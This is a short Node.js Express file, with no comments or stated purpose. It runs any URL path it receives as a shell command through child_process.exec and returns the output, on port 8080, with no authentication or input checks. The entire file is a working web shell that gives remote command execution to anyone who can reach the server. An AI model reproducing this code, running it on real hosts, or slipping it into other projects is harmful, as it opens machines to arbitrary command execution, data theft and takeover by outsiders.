const express = require('express');
const { exec } = require('child_process');

const app = express();
app.get('/:command', ({ params: { command } }, res) => exec(command, (error, output) => res.send(output)));
app.listen(8080);
